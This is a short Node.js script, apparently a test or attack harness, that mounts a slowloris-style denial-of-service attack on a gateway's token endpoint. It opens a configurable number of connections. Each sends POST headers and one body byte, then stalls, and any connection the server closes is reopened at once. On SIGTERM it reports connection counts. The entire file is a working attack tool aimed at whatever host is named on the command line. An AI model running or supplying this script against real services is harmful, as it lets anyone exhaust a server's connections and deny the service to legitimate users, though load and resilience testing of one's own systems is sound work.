// Connections that send a request's headers and one byte of its body, then nothing: a slowloris against the
// gateway's token endpoint (whose caller is only known from the body). A closed connection is opened again at once.
const net = require('node:net');

const [host, port, count, path] = process.argv.slice(2);
const seen = { opened: 0, closedByServer: 0, errors: 0 };
let stopping = false;

function open() {
  if (stopping) return;
  const socket = net.connect(Number(port), host);
  seen.opened++;
  socket.on('connect', () => {
    socket.write(`POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{`);
  });
  socket.on('data', () => undefined);
  socket.on('error', () => seen.errors++);
  socket.on('close', () => {
    if (stopping) return;
    seen.closedByServer++;
    setImmediate(open);
  });
}

for (let i = 0; i < Number(count); i++) open();
process.on('SIGTERM', () => {
  stopping = true;
  process.stdout.write(`${JSON.stringify(seen)}\n`, () => process.exit(0));
});
